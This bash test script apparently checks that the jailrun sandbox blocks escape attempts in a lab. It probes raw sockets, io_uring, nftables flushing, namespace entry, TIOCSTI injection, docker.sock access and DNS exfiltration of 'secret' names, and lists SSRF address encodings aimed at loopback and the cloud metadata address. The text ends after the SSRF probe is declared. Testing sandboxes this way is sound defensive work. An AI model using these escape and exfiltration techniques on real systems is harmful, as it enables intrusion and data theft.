#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# Escape attempts against jailrun, in a lab, as root-started and rootless.
#
# Every probe prints one "PROBE" line: what it tries, what a correct sandbox
# answers, and its baseline. The baseline is the same attempt made in the lab
# host WITHOUT jailrun, and it must succeed: it shows the attack works in the
# lab, so that a pass under jailrun means jailrun stopped it (where no
# baseline can exist, the PROBE line says why). Witnesses are the lab's own
# logs (lab_web_served, lab_dns_queried), jailrun's audit log and --json
# summary, and what the kernel answered.
#
# Probes and helpers: tests/escape/probe.py (Python, standard library) and
# tests/escape/iouring.c (compiled here with gcc into $JR_TMP).
#
# Fails if: any probe reaches what it tries to reach under jailrun, answers
# differently from the documented answer, or a baseline does not work;
# through exec (escape-exec.sh), also if the live sandbox whose rules were
# tampered with has no watchdog restore in its NAME.log.
. "${JR_TOP_SRCDIR:-$(dirname "$0")/../..}/tests/lib.sh"
. "$JR_TOP_SRCDIR/tests/lab/lib.sh"
jr_require_sandbox
command -v gcc >/dev/null || skip "needs gcc (the io_uring probe is compiled at test time)"
command -v nft >/dev/null || skip "needs nft (the tamper probes use it from outside)"
lab_setup --timeout 1200 escape   # a hang guard, not a time limit: generous

ESC=$JR_TOP_SRCDIR/tests/escape
if [ -x /usr/bin/python3 ]; then PY=/usr/bin/python3; else PY=$(command -v python3); fi
PR=$JR_TMP/probe.py
SV=$JR_TMP/servers.py
install -m 644 "$ESC/probe.py" "$PR"
install -m 644 "$JR_TOP_SRCDIR/tests/lab/servers.py" "$SV"
install -m 644 "$LAB_CA" "$JR_W/ca.pem"
CA=$JR_W/ca.pem
gcc -O1 -w -o "$JR_TMP/iouring" "$ESC/iouring.c" || fail "cannot compile $ESC/iouring.c"
chmod 755 "$JR_TMP/iouring"
if [ ! -x "$JR_TMP/fdcheck" ]; then
	gcc -O1 -w -o "$JR_TMP/fdcheck" "$JR_TOP_SRCDIR/tests/helpers/fdcheck.c" ||
		fail "cannot compile tests/helpers/fdcheck.c"
	chmod 755 "$JR_TMP/fdcheck"
fi

DENIED4=$(lab_addr denied.test 4)
ALLOWED4=$(lab_addr allowed.test 4)
RAW4=$(lab_addr raw.test 4)
DNS4=$(lab_addr dns.test 4)
DENIED6=
[ "$LAB_IPV6" = 1 ] && DENIED6=$(lab_addr denied.test 6)
GW=100.64.77.1
LAB_NET_PID=$(cat "$LAB_STATE/ready-net")

# Host-side listeners (abstract socket, fake docker.sock) stop when this file
# exists; the fake docker.sock is removed at exit whatever happened.
STOP=$JR_TMP/stop-listeners
LISTENERS=()
FAKE_DOCKER=0
esc_cleanup() {
	touch "$STOP" "$STOP.docker" "$STOP.tmux" 2>/dev/null || true
	local p
	for p in "${LISTENERS[@]}"; do
		for _ in $(seq 30); do kill -0 "$p" 2>/dev/null || break; sleep 0.1; done
	done
	if [ "$FAKE_DOCKER" = 1 ] && [ -S /run/docker.sock ]; then rm -f /run/docker.sock; fi
	[ -z "${TMUXDIR:-}" ] || rm -rf "$TMUXDIR"
}
lab_on_exit esc_cleanup
lab_on_exit jr_cleanup_tmp

# ESCAPE_VIA=exec (tests/escape/escape-exec.sh): every probe runs in a
# live sandbox through `jailrun exec` (jailrun(1), LIVE SANDBOXES), built
# by `jailrun start` with the run's options and stopped after it, so an
# exec'd command meets the same walls a run's does.
if [ "${ESCAPE_VIA:-run}" = exec ]; then
	XDG=$JR_W/xdg
	mkdir -m 700 "$XDG"
	[ "$(id -u)" -ne 0 ] || chown "$JR_NOBODY_UID:$JR_NOBODY_GID" "$XDG"
	JL_N=0
	# jl_live CALLER ARGS... - jailrun ARGS as CALLER in the lab host.
	jl_live() {
		local c=$1
		shift
		case $c in
		root) lab_host timeout -k 5 "$JR_RUN_LIMIT" env -C "$JR_TMP" "$JR" "$@" </dev/null ;;
		rootless) lab_host_as nobody timeout -k 5 "$JR_RUN_LIMIT" env -C "$JR_TMP" \
			HOME="$JR_HOME" XDG_RUNTIME_DIR="$XDG" "$JR" "$@" </dev/null ;;
		esac
	}
	# jl CALLER OPTIONS -- CMD... - start, exec CMD, stop: the exec's status.
	jl() {
		local c=$1 opts=() name st lg
		shift
		while [ $# -gt 0 ] && [ "$1" != -- ]; do opts+=("$1"); shift; done
		shift
		JL_N=$((JL_N + 1))
		name=esc-$$-$BASHPID-$JL_N
		jl_live "$c" start "$name" "${opts[@]}" || return
		st=0
		jl_live "$c" exec "$name" -- "$@" || st=$?
		jl_live "$c" stop "$name" >/dev/null 2>&1 || true
		# What it said after its start (jailrun(1): NAME.log, kept when
		# not empty): gathered for the checks below, and not left in
		# the caller's runtime directory.
		if [ "$c" = root ]; then lg=/run/jailrun/$name.log; else lg=$XDG/jailrun/$name.log; fi
		if [ -f "$lg" ]; then
			cat "$lg" >>"$JR_W/live-logs-$c"
			rm -f "$lg"
		fi
		return "$st"
	}
fi

# base CMD... - the baseline: the lab host, as root, no jailrun.
base() { lab_host "$@" </dev/null; }
base_nobody() { lab_host_as nobody env -C "$JR_TMP" "$@" </dev/null; }

probe() {
	echo
	echo "PROBE $1: tries $2; a correct sandbox: $3; baseline: $4"
}
lacks() {
	if grep -qF -- "$2" <<<"$OUT"; then fail "$1: output has '$2'; output: $OUT"; else ok "$1"; fi
}
has_re() {
	if grep -qE -- "$2" <<<"$OUT"; then ok "$1"; else fail "$1: output lacks /$2/; output: $OUT"; fi
}
# every_line DESC PREFIX REGEX - each line of $OUT starting with PREFIX matches REGEX
every_line() {
	local bad n
	n=$(grep -cF -- "$2" <<<"$OUT" || true)
	bad=$(grep -F -- "$2" <<<"$OUT" | grep -vE -- "$3" || true)
	if [ "$n" -gt 0 ] && [ -z "$bad" ]; then ok "$1 ($n of $n)"; else fail "$1: $n lines, these do not match /$3/: ${bad:-(no lines)}"; fi
}
never_queried() {
	if lab_dns_queried "$2"; then fail "$1: the lab DNS saw $2"; else ok "$1: the lab DNS never saw $2"; fi
}
# sum FILE PYEXPR - evaluate PYEXPR on the JSON summary s
sum() { "$PY" -c 'import json, sys; s = json.load(open(sys.argv[1])); print(eval(sys.argv[2]))' "$1" "$2"; }
# pid_of MARKER - the sandboxed probe carrying MARKER as its last argument
# (a hang guard of 30 s: start-up on a loaded machine can take seconds)
probe_found() {
	PROBE_PID=$(pgrep -f "^$PY $PR .* $1\$" | head -n1 || true)
	[ -n "$PROBE_PID" ]
}
pid_of() {
	PROBE_PID=
	wait_until 30 probe_found "$1" || true
	echo "$PROBE_PID"
}
modes=$(jr_modes)

###########################################################################
probe raw-net "TCP, UDP and ICMP straight to lab addresses, ignoring the proxy" \
	"TCP refused by the kernel, not timed out (reset: ECONNREFUSED, or ENETUNREACH/EHOSTUNREACH), UDP and ICMP get no reply (EPERM/EACCES), nothing served" \
	"root in the lab host connects, gets the UDP echo and the ICMP echo reply (raw socket; ping is $(command -v ping >/dev/null && echo installed || echo not installed), Python's ICMP sockets are used)"
tcp_targets=("$RAW4" 7 "$DENIED4" 80 "$DNS4" 53)
[ -n "$DENIED6" ] && tcp_targets+=("$DENIED6" 80)
lab_logs_clear
expect_status 0 "baseline: raw TCP/UDP/ICMP" base "$PY" "$PR" tcp "${tcp_targets[@]}"
every_line "baseline: every direct TCP connect succeeds" "RESULT tcp" "CONNECTED"
expect_status 0 "baseline: UDP + ICMP" base sh -c '"$0" "$1" udp "$2" 7; "$0" "$1" icmp "$2"' "$PY" "$PR" "$RAW4"
expect_output_has "baseline: UDP echo answers" "RESULT udp $RAW4:7 REPLY"
expect_output_has "baseline: ICMP echo answers" "ECHO-REPLY"
for m in $modes; do
	lab_logs_clear
	expect_status 0 "$m: raw TCP/UDP/ICMP" jl "$m" --allow allowed.test -- sh -c '
		py=$0 pr=$1 gw=$2 raw=$3 dns=$4; shift 4
		"$py" "$pr" tcp "$gw" 22 "$@"; "$py" "$pr" udp "$raw" 7; "$py" "$pr" udp "$dns" 53; "$py" "$pr" icmp "$raw"' \
		"$PY" "$PR" "$GW" "$RAW4" "$DNS4" "${tcp_targets[@]}"
	# The kind of refusal, not its speed: a timeout (the probe's 10 s hang
	# guard) prints TIMEOUT and fails here. The time is in $OUT.
	every_line "$m: every direct TCP connect refused, not timed out" "RESULT tcp" "blocked (ECONNREFUSED|ENETUNREACH|EHOSTUNREACH) in [0-9.]+ s"
	every_line "$m: no UDP reply" "RESULT udp" "no-reply"
	has_re "$m: no ICMP echo reply" "RESULT icmp $RAW4 no-reply"
	never_served "$m" denied.test
done

###########################################################################
probe af-packet "socket(AF_PACKET, SOCK_RAW) to read/write raw frames" \
	"EAFNOSUPPORT (seccomp)" "root in the lab host creates it"
expect_status 0 "baseline: AF_PACKET" base "$PY" "$PR" packet
expect_output_has "baseline: packet socket created" "RESULT packet socket CREATED"
for m in $modes; do
	expect_status 0 "$m: AF_PACKET" jl "$m" -- "$PY" "$PR" packet
	expect_output_has "$m: AF_PACKET refused" "RESULT packet socket EAFNOSUPPORT"
done

###########################################################################
probe io_uring "io_uring_setup, then IORING_OP_SOCKET + IORING_OP_CONNECT to denied.test:80 (no socket(2)/connect(2) call)" \
	"ENOSYS from io_uring_setup, io_uring_enter and io_uring_register" \
	"nobody in the lab host opens the ring and connects"
expect_status 0 "baseline: io_uring connect" base_nobody "$JR_TMP/iouring" "$DENIED4" 80
expect_output_has "baseline: io_uring connected as nobody" "RESULT io_uring connect $DENIED4:80 CONNECTED"
for m in $modes; do
	expect_status 0 "$m: io_uring" jl "$m" --allow allowed.test -- "$JR_TMP/iouring" "$DENIED4" 80
	expect_output_has "$m: io_uring_setup ENOSYS" "RESULT io_uring_setup ENOSYS"
	expect_output_has "$m: io_uring_enter ENOSYS" "RESULT io_uring_enter(-1) ENOSYS"
	expect_output_has "$m: io_uring_register ENOSYS" "RESULT io_uring_register(-1) ENOSYS"
	lacks "$m: no io_uring connection" "CONNECTED"
done

###########################################################################
probe nfnetlink "NETLINK_NETFILTER: dump the nftables tables and delete them all (raw netlink, and nft list/flush ruleset)" \
	"EPROTONOSUPPORT for the socket, nft fails, and the rules stay (direct TCP still reset, tamper_events 0)" \
	"root in the lab host lists a table it added and flushes it away"
lab_host nft add table inet escbase
expect_status 0 "baseline: nfnetlink list + flush" base sh -c '"$0" "$1" nfnl-list; "$0" "$1" nfnl-flush; "$0" "$1" nfnl-list' "$PY" "$PR"
expect_output_has "baseline: the dump lists the table" "LISTED tables=[inet:escbase]"
expect_output_has "baseline: the flush is accepted" "RESULT nfnl-flush FLUSHED"
expect_output_has "baseline: the table is gone" "LISTED tables=[]"
lab_host nft delete table inet escbase 2>/dev/null || true
for m in $modes; do
	rm -f "$JR_W/nfnl-$m.json"
	expect_status 0 "$m: nfnetlink" jl "$m" --allow allowed.test --json "$JR_W/nfnl-$m.json" -- sh -c '
		"$0" "$1" nfnl-list; "$0" "$1" nfnl-flush
		if command -v nft >/dev/null; then
			nft list ruleset; echo "nft-list-rc=$?"; nft flush ruleset; echo "nft-flush-rc=$?"
		else echo "nft not installed"; fi
		"$0" "$1" tcp "$2" 80' "$PY" "$PR" "$DENIED4"
	expect_output_has "$m: netlink dump refused" "RESULT nfnl-list socket EPROTONOSUPPORT"
	expect_output_has "$m: netlink flush refused" "RESULT nfnl-flush socket EPROTONOSUPPORT"
	has_re "$m: nft list ruleset fails" "nft-list-rc=[1-9]|nft not installed"
	has_re "$m: nft flush ruleset fails" "nft-flush-rc=[1-9]|nft not installed"
	expect_output_has "$m: the rules still reset a direct connect" "RESULT tcp $DENIED4:80 blocked ECONNREFUSED"
	if [ "$(sum "$JR_W/nfnl-$m.json" 's["network"]["tamper_events"]')" = 0 ]; then
		ok "$m: the ruleset never changed (tamper_events 0)"
	else fail "$m: tamper_events: $(cat "$JR_W/nfnl-$m.json")"; fi
done

###########################################################################
probe new-netns "unshare -rn / unshare -r / unshare -n, then connect to denied.test" \
	"unshare refused (EPERM); with --allow-nested it works but the new netns has only lo, so connects fail (ENETUNREACH), setns into the lab's netns is still EPERM, and the sandbox's rules are untouched" \
	"nobody in the lab host makes a user+net namespace (it also has only lo: the escape value of a new netns is nil; the baseline shows the syscall is open to an unprivileged user)"
cat >"$JR_TMP/nested.sh" <<'EOF'
# nested.sh PY PROBE DENIED GATEWAY NETNS-FILE: in a new user+net namespace,
# what is there and what can be reached; then the same from the sandbox.
py=$1 pr=$2 denied=$3 gw=$4 nsfile=$5
unshare -rn sh -c '"$0" "$1" ifaces; "$0" "$1" tcp "$2" 80 "$3" 3128; "$0" "$1" setns "$4"' \
	"$py" "$pr" "$denied" "$gw" "$nsfile"
echo "nested-rc=$?"
"$py" "$pr" tcp "$denied" 80
curl -sS -m 10 http://allowed.test/nested | head -n1
EOF
chmod 644 "$JR_TMP/nested.sh"
expect_status 0 "baseline: unshare -rn as nobody" base_nobody unshare -rn "$PY" "$PR" ifaces
has_re "baseline: new netns made (only lo)" "^RESULT ifaces lo$"
for m in $modes; do
	expect_status 0 "$m: unshare" jl "$m" --allow allowed.test -- sh -c '
		for o in -rn -r -n -U; do unshare $o true 2>&1; echo "unshare $o rc=$?"; done
		"$0" "$1" tcp "$2" 80' "$PY" "$PR" "$DENIED4"
	every_line "$m: every unshare refused" "unshare: unshare failed" "Operation not permitted"
	every_line "$m: every unshare failed" "rc=" "rc=[1-9]"
	expect_output_has "$m: then a connect is still reset" "RESULT tcp $DENIED4:80 blocked ECONNREFUSED"
	rm -f "$JR_W/nested-$m.json"
	expect_status 0 "$m: --allow-nested" jl "$m" --allow-nested --allow allowed.test --json "$JR_W/nested-$m.json" -- \
		sh "$JR_TMP/nested.sh" "$PY" "$PR" "$DENIED4" "$GW" "/run/netns/$LAB_NET_NS"
	expect_output_has "$m: nested unshare works" "nested-rc=0"
	has_re "$m: the new netns has only lo" "^RESULT ifaces lo$"
	expect_output_has "$m: nested: denied.test unreachable" "RESULT tcp $DENIED4:80 blocked ENETUNREACH"
	expect_output_has "$m: nested: the relay unreachable too" "RESULT tcp $GW:3128 blocked ENETUNREACH"
	# The isolated layout's /run is an empty tmpfs: the file is not even
	# there (the kernel's refusal is probed with --fs host under "setns").
	has_re "$m: nested: the lab's netns unreachable" "RESULT setns /run/netns/$LAB_NET_NS (EPERM|open ENOENT)"
	expect_output_has "$m: back in the sandbox the rules still reset" "RESULT tcp $DENIED4:80 blocked ECONNREFUSED"
	expect_output_has "$m: and the proxy still works" "served-by: allowed.test"
	if [ "$(sum "$JR_W/nested-$m.json" '(s["network"]["tamper_events"], s["network"]["rules_verified"])')" = "(0, True)" ]; then
		ok "$m: --allow-nested: the sandbox's rules were untouched (tamper_events 0)"
	else fail "$m: --allow-nested summary: $(cat "$JR_W/nested-$m.json")"; fi
done

###########################################################################
probe setns "setns(2) into every /proc/*/ns/* the sandbox shows, and into the host's /run/netns/* bind mounts (with --fs host, visible through the shared file system)" \
	"no entry: the private /run has no /run/netns; with --fs host EPERM (seccomp) or EACCES on open" \
	"root in the lab host enters the lab internet's netns through /run/netns and connects to denied.test there"
expect_status 0 "baseline: setns" base "$PY" "$PR" setns --connect "$DENIED4" 80 "/run/netns/$LAB_NET_NS"
expect_output_has "baseline: entered" "RESULT setns /run/netns/$LAB_NET_NS ENTERED"
expect_output_has "baseline: connected from there" "RESULT tcp $DENIED4:80 CONNECTED"
for m in $modes; do
	expect_status 0 "$m: setns" jl "$m" --allow allowed.test -- sh -c '"$0" "$1" setns --all-proc --connect "$2" 80 /run/netns/*' \
		"$PY" "$PR" "$DENIED4"
	expect_output_has "$m: no namespace entered" "entered=0"
	has_re "$m: the host's /run/netns is not in the sandbox" "RESULT setns /run/netns/.* open ENOENT"
	lacks "$m: no ENTERED" "ENTERED"
	lacks "$m: no connection" "CONNECTED"
	expect_status 0 "$m: setns, --fs host" jl "$m" --fs host --allow allowed.test -- sh -c '"$0" "$1" setns --all-proc --connect "$2" 80 /run/netns/*' \
		"$PY" "$PR" "$DENIED4"
	expect_output_has "$m: --fs host: no namespace entered" "entered=0"
	has_re "$m: --fs host: the host's netns file is visible but refused" "RESULT setns /run/netns/$LAB_NET_NS (EPERM|open EACCES)"
	lacks "$m: --fs host: no ENTERED" "ENTERED"
	lacks "$m: --fs host: no connection" "CONNECTED"
done

###########################################################################
probe host-pids "list /proc for host processes (the lab's server, pid $LAB_NET_PID)" \
	"only the sandbox's handful of processes; the server's pid absent" \
	"the lab host sees every process of the machine, the server among them"
# Prints the probe's view, whether the server's pid exists, and how many
# command lines of lab servers ("servers.py serve --state=...") it can read
# (the bracket keeps the pattern from matching this script's own command line).
# This runs under sh (no pipefail there, and no here-strings), so the pipe
# into grep -q is safe.
procs_view='"$0" "$1" procs; [ -e /proc/"$2" ] && echo SERVER-PID-VISIBLE
	n=0; for f in /proc/[0-9]*/cmdline; do
		tr "\0" " " <"$f" 2>/dev/null | grep -q "servers[.]py serve --state=" && n=$((n + 1))
	done; echo "lab-server-cmdlines=$n"'
expect_status 0 "baseline: /proc" base sh -c "$procs_view" "$PY" "$PR" "$LAB_NET_PID"
has_re "baseline: many processes" "RESULT procs count=([2-9][0-9]|[0-9]{3,})"
expect_output_has "baseline: the lab server's pid is visible" "SERVER-PID-VISIBLE"
has_re "baseline: the lab servers' command lines are readable" "lab-server-cmdlines=[1-9]"
for m in $modes; do
	expect_status 0 "$m: /proc" jl "$m" -- sh -c "$procs_view" "$PY" "$PR" "$LAB_NET_PID"
	has_re "$m: only a handful of pids" "RESULT procs count=[1-6] "
	lacks "$m: the lab server's pid is invisible" "SERVER-PID-VISIBLE"
	expect_output_has "$m: no lab server's command line is visible" "lab-server-cmdlines=0"
done

###########################################################################
probe leaked-fds "look for file descriptors other than 0,1,2 (the caller also hands jailrun an extra fd 7 without close-on-exec)" \
	"only 0, 1, 2" \
	"impossible as such (the runner's fds exist only under jailrun); the lab host run shows fdcheck does see an inherited fd 7"
expect_status 1 "baseline: fdcheck sees an inherited fd" base "$JR_TMP/fdcheck" 7</etc/hostname
expect_output_has "baseline: fd 7 reported" "leaked fd 7"
for m in $modes; do
	expect_status 0 "$m: fdcheck" jl "$m" --allow allowed.test -- "$JR_TMP/fdcheck" 7</etc/hostname
	expect_output_has "$m: only 0, 1, 2" "fdcheck: only 0, 1, 2 open"
done

###########################################################################
probe privileges "read the capability sets, no_new_privs and seccomp mode (also as uid 0 with --user root)" \
	"every capability set 0, NoNewPrivs 1, Seccomp 2 (filter)" \
	"root in the lab host has capabilities, NoNewPrivs 0, Seccomp 0"
expect_status 0 "baseline: status" base "$PY" "$PR" status
has_re "baseline: root has capabilities" "CapEff=0*[1-9a-f]"
expect_output_has "baseline: no no_new_privs" "NoNewPrivs=0"
expect_output_has "baseline: no seccomp" "Seccomp=0"
zero=0000000000000000
for m in $modes; do
	expect_status 0 "$m: status" jl "$m" -- "$PY" "$PR" status
	expect_output_has "$m: no capabilities at all" "CapInh=$zero CapPrm=$zero CapEff=$zero CapBnd=$zero CapAmb=$zero"
	expect_output_has "$m: no_new_privs and a seccomp filter" "NoNewPrivs=1 Seccomp=2"
	if [ "$m" = root ]; then
		expect_status 0 "$m: status as --user root" jl "$m" --user root -- "$PY" "$PR" status
		expect_output_has "$m: uid 0 in the sandbox" "uid=0 "
		expect_output_has "$m: uid 0 holds no capabilities" "CapInh=$zero CapPrm=$zero CapEff=$zero CapBnd=$zero CapAmb=$zero"
	fi
done

###########################################################################
probe tiocsti "TIOCSTI keystroke injection on a pty the probe opens itself (as its controlling tty) and on fd 0 (jailrun run on a real terminal)" \
	"EPERM on both" "the same probe on a terminal in the lab host injects on both"
expect_status 0 "baseline: TIOCSTI" base "$PY" "$PR" pty-run 20 -- "$PY" "$PR" tiocsti --fd0
expect_output_has "baseline: injected on its own pty" "RESULT tiocsti own-pty INJECTED"
expect_output_has "baseline: injected on the terminal" "RESULT tiocsti fd0(isatty=True) INJECTED"
for m in $modes; do
	if [ "$m" = root ]; then pre=(); else
		pre=(setpriv --reuid="$JR_NOBODY_UID" --regid="$JR_NOBODY_GID" --clear-groups --)
	fi
	expect_status 0 "$m: TIOCSTI" base "$PY" "$PR" pty-run 30 -- "${pre[@]}" env -C "$JR_TMP" HOME="$JR_HOME" \
		"$JR" -- "$PY" "$PR" tiocsti --fd0
	expect_output_has "$m: jailrun ran" "RESULT pty-run exit=0"
	expect_output_has "$m: own pty refused" "RESULT tiocsti own-pty EPERM"
	expect_output_has "$m: the terminal on fd 0 refused" "RESULT tiocsti fd0(isatty=True) EPERM"
done

###########################################################################
ABS=jr-escape-$$
probe abstract-unix "connect to an abstract unix socket @$ABS listening in the lab host's netns (outside jailrun)" \
	"ECONNREFUSED (abstract sockets belong to a network namespace)" "nobody in the lab host connects and gets the greeting"
lab_host "$PY" "$PR" listen-abstract "$ABS" 90 --stop-file "$STOP" >"$JR_W/abstract.out" 2>&1 &
LISTENERS+=($!)
wait_until 30 grep -q listening "$JR_W/abstract.out" || fail "abstract-unix: the host listener never listened"
expect_status 0 "baseline: abstract socket" base_nobody "$PY" "$PR" abstract "$ABS"
expect_output_has "baseline: reached" "CONNECTED greeting='host-abstract-$ABS'"
for m in $modes; do
	for net in "--allow allowed.test" "--net none"; do
		# shellcheck disable=SC2086 # two words on purpose
		expect_status 0 "$m: abstract socket ($net)" jl "$m" $net -- "$PY" "$PR" abstract "$ABS"
		expect_output_has "$m: unreachable ($net)" "RESULT abstract @$ABS ECONNREFUSED"
	done
done

###########################################################################
probe docker-sock "connect to a (fake) host daemon socket /run/docker.sock (mode 0777, a pathname socket: reachable across netns), also as /var/run/docker.sock" \
	"not there: ENOENT (the sandbox's /run is an empty tmpfs); with --fs host hidden: ECONNREFUSED; with --expose /run/docker.sock (or its /var/run spelling) reachable" \
	"nobody in the lab host connects and gets the greeting"
# The fake socket is at the host's own /run/docker.sock, the path jailrun
# hides: two suites on one machine (make check beside a CI run) take turns
# here instead of taking each other's socket for a real daemon's.
mkdir -p /run/lock
exec {docker_lock}>/run/lock/jailrun-escape-docker-sock.lock
flock -w 600 "$docker_lock" || fail "docker-sock: another suite held the probe's lock for 600 s"
if [ -e /run/docker.sock ] || [ -L /run/docker.sock ]; then
	# Never replace a real daemon's socket.
	if [ "${JAILRUN_TEST_MUST_WORK:-0}" = 1 ]; then
		fail "docker-sock: /run/docker.sock exists on this machine; the probe will not replace it"
	else
		skip_part "docker-sock: /run/docker.sock exists on this machine; the probe will not replace it"
	fi
else
	FAKE_DOCKER=1
	lab_host "$PY" "$PR" listen-unix /run/docker.sock 90 --stop-file "$STOP.docker" >"$JR_W/docker.out" 2>&1 &
	docker_pid=$!
	LISTENERS+=("$docker_pid")
	wait_until 30 grep -q listening "$JR_W/docker.out" || fail "docker-sock: the fake daemon never listened"
	expect_status 0 "baseline: docker.sock" base_nobody sh -c '"$0" "$1" unix /run/docker.sock; "$0" "$1" unix /var/run/docker.sock' "$PY" "$PR"
	every_line "baseline: reached under both names" "RESULT unix" "CONNECTED greeting='fake-daemon-at-/run/docker.sock'"
	for m in $modes; do
		expect_status 0 "$m: docker.sock hidden" jl "$m" --allow allowed.test -- sh -c \
			'"$0" "$1" unix /run/docker.sock; "$0" "$1" unix /var/run/docker.sock' "$PY" "$PR"
		every_line "$m: not there under both names" "RESULT unix" "ENOENT"
		expect_status 0 "$m: docker.sock hidden, --fs host" jl "$m" --fs host --allow allowed.test -- sh -c \
			'"$0" "$1" unix /run/docker.sock; "$0" "$1" unix /var/run/docker.sock' "$PY" "$PR"
		every_line "$m: --fs host: hidden under both names" "RESULT unix" "ECONNREFUSED"
		for x in /run/docker.sock /var/run/docker.sock; do
			expect_status 0 "$m: docker.sock with --expose $x" jl "$m" --expose "$x" --allow allowed.test -- \
				"$PY" "$PR" unix /run/docker.sock
			expect_output_has "$m: --expose $x reaches it" "CONNECTED greeting='fake-daemon-at-/run/docker.sock'"
		done
	done
	# Gone before the lock is released: the next suite must find no socket.
	touch "$STOP.docker"
	wait "$docker_pid" 2>/dev/null || true
	rm -f /run/docker.sock
	FAKE_DOCKER=0
fi
flock -u "$docker_lock"
exec {docker_lock}>&-

###########################################################################
probe host-unix-socket "connect to a host daemon's pathname socket that no list names (a tmux-like socket of the command's own uid in a fresh directory under /var/lib, which the read-only layout still shows: /tmp, /var/tmp and /run are private tmpfs, so a socket there is not even seen), directly and through a symlink the command makes (tests/integration/unixsock.sh covers more places, late and re-created sockets)" \
	"ECONNREFUSED for each (unixguard.c)" \
	"reached without jailrun"
TMUXDIR=$(mktemp -d /var/lib/jailrun-escape-tmux.XXXXXX)
chmod 777 "$TMUXDIR"
lab_host_as nobody "$PY" "$PR" listen-unix "$TMUXDIR/default" 300 --stop-file "$STOP.tmux" >"$JR_W/tmux.out" 2>&1 &
LISTENERS+=($!)
if wait_until 30 grep -q listening "$JR_W/tmux.out"; then
	expect_status 0 "baseline: the tmux-like socket" base_nobody "$PY" "$PR" unix "$TMUXDIR/default"
	expect_output_has "baseline: reached" "CONNECTED greeting='fake-daemon-at-$TMUXDIR/default'"
	for m in root rootless; do
		expect_status 0 "$m: host unix socket" jl "$m" --allow allowed.test -- sh -c \
			'ln -s "$1" "$0"/tmux-link-$$ && "$2" "$3" unix "$1"; "$2" "$3" unix "$0"/tmux-link-$$; rm -f "$0"/tmux-link-$$' \
			"$JR_W" "$TMUXDIR/default" "$PY" "$PR"
		every_line "$m: refused, directly and through a symlink" "RESULT unix" "ECONNREFUSED"
	done
else
	fail "host-unix-socket: the tmux-like daemon never listened"
fi
touch "$STOP.tmux"

###########################################################################
probe dns-exfil "carry data out in DNS names: A (UDP and TCP) and TXT queries for secret-*.denied.test to the sandbox's resolver, getent, TXT of an allowed name, and queries straight to the lab DNS server" \
	"NXDOMAIN from the relay, nothing forwarded upstream (the lab DNS log never sees those names or any TXT query), direct queries blocked" \
	"the lab host's own resolver forwards the same queries to the lab DNS server (its log shows them)"
lab_logs_clear
expect_status 0 "baseline: DNS queries" base sh -c '
	"$0" "$1" dns secret-1234.denied.test A --server="$2"; "$0" "$1" dns secret-txt-1234.denied.test TXT --server="$2"
	getent hosts secret-getent-1234.denied.test; true' "$PY" "$SV" "$DNS4"
if lab_dns_queried secret-1234.denied.test && lab_dns_queried secret-txt-1234.denied.test &&
	lab_dns_queried secret-getent-1234.denied.test; then
	ok "baseline: the lab DNS saw every secret name"
else fail "baseline: the lab DNS log lacks the secret names: $(cat "$LAB_DNSLOG")"; fi
for m in $modes; do
	lab_logs_clear
	expect_status 0 "$m: DNS exfiltration" jl "$m" --allow allowed.test -- sh -c '
		"$0" "$1" dns "secret-1234-$2.denied.test" A --server=100.64.77.1
		"$0" "$1" dns "secret-tcp-1234-$2.denied.test" A --server=100.64.77.1 --tcp
		"$0" "$1" dns "secret-txt-1234-$2.denied.test" TXT --server=100.64.77.1
		"$0" "$1" dns allowed.test TXT --server=100.64.77.1; echo "allowed-txt-rc=$?"
		getent hosts "secret-getent-1234-$2.denied.test"; echo "getent-rc=$?"
		"$0" "$1" dns "secret-direct-1234-$2.denied.test" A --server="$3" 2>&1
		"$0" "$1" dns "secret-direct-1234-$2.denied.test" A --server="$3" --tcp 2>&1; true' \
		"$PY" "$SV" "$m" "$DNS4"
	n=$(grep -c '^NXDOMAIN$' <<<"$OUT" || true)
	if [ "$n" = 3 ]; then ok "$m: NXDOMAIN for the three secret queries"; else fail "$m: $n NXDOMAIN answers, want 3: $OUT"; fi
	expect_output_has "$m: TXT of an allowed name: empty answer" "allowed-txt-rc=0"
	has_re "$m: getent finds nothing" "getent-rc=[1-9]"
	expect_output_has "$m: a query straight to the lab DNS server over UDP is refused (EPERM)" "error: [Errno 1] Operation not permitted"
	expect_output_has "$m: and over TCP is reset (ECONNREFUSED)" "error: [Errno 111] Connection refused"
	for n in "secret-1234-$m" "secret-tcp-1234-$m" "secret-txt-1234-$m" "secret-getent-1234-$m" "secret-direct-1234-$m"; do
		never_queried "$m" "$n.denied.test"
	done
	if grep -q ' TXT ' "$LAB_DNSLOG"; then fail "$m: a TXT query reached the lab DNS: $(grep ' TXT ' "$LAB_DNSLOG")"
	else ok "$m: no TXT query ever reached the lab DNS"; fi
done

###########################################################################
SSRF=(http://loopback.test:8080/ http://metadata.test/ http://127.0.0.1:8080/ http://169.254.169.254/
	http://2130706433:8080/ http://0x7f000001:8080/ http://0177.0.0.1:8080/ http://127.1:8080/
	http://0x7f.1:8080/ http://017700000001:8080/ http://2852039166/ http://0xa9fea9fe/
	'http://[::ffff:127.0.0.1]:8080/' 'http://[::ffff:7f00:1]:8080/' 'http://[::ffff:a9fe:a9fe]/'
	'http://[64:ff9b::7f00:1]:8080/' 'http://[64:ff9b::a9fe:a9fe]/' 'http://[::127.0.0.1]:8080/'
	'http://[::1]:8080/' http://localhost:8080/
	CONNECT=127.0.0.1:8080 CONNECT=loopback.test:8080 'CONNECT=[::ffff:127.0.0.1]:8080'
	CONNECT=metadata.test:80 CONNECT=169.254.169.254:80 CONNECT=2130706433:8080 'CONNECT=[64:ff9b::a9fe:a9fe]:80')
probe ssrf "reach the lab host's loopback service (127.0.0.1:8080) and the metadata server through the proxy: names allowed with --allow (loopback.test is a 'rebinding' name: allowlisted, A = 127.0.0.1), literals, decimal/hex/octal/short IPv4, IPv4-mapped and -compatible IPv6, NAT64, GET and CONNECT; again with --allow 0.0.0.0/0 --allow ::/0; and a direct connect to 127.0.0.1:8080" \
	"403 for every one (special-address for names and, under the broad CIDRs, for literals; bad-host for non-dotted numeric forms; not-allowed otherwise); the loopback service and metadata server never serve; direct 127.0.0.1 is the sandbox's own loopback (refused)" \
	"the lab host reaches the loopback service and the metadata server by name, literal, decimal, hex, octal, short and IPv4-mapped forms; NAT64 has no baseline (the lab has no NAT64 gateway)"
lab_logs_clear
